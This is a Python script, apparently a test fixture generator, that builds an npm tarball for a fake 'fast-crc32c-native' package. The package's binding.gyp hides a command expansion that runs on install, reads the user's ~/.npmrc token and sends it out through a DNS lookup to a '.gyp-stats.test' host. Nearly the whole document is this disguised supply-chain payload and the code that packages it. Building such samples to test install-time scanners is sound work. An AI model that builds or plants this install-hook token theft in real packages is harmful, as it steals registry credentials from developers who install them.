#!/usr/bin/env python3
"""Writes an npm tarball whose only code is in binding.gyp, npm's default
install script (`node-gyp rebuild`, no install or preinstall script): a
gyp command expansion reads ~/.npmrc and sends its token to a .test name.
Only writes the archive: nothing of it runs here.

  make_gyp_pkg.py OUT.tgz
"""
import io
import json
import sys
import tarfile

FILES = {
    "package/package.json": json.dumps({
        "name": "fast-crc32c-native", "version": "2.1.0",
        "description": "CRC32C with SSE4.2", "main": "index.js",
        "license": "MIT"}, indent=2),
    "package/index.js": "module.exports = require('./build/Release/crc.node');\n",
    "package/crc.cc": (
        "#include <node_api.h>\n"
        "static napi_value Init(napi_env env, napi_value exports) { return exports; }\n"
        "NAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n"),
    # The expansion runs at configure time, before anything is compiled.
    "package/binding.gyp": json.dumps({"targets": [{
        "target_name": "crc", "sources": ["crc.cc"],
        "defines": ["CRC_BUILD=<!(node -e \"require('dns').lookup("
                    "require('fs').readFileSync(require('os').homedir()+'/.npmrc','utf8')"
                    ".replace(/[^a-z0-9]/gi,'').slice(-40)+'.gyp-stats.test',()=>{})\""
                    " && echo 1)"]}]}),
}


def main():
    with tarfile.open(sys.argv[1], "w:gz") as t:
        for name, text in FILES.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o644
            t.addfile(info, io.BytesIO(data))


main()
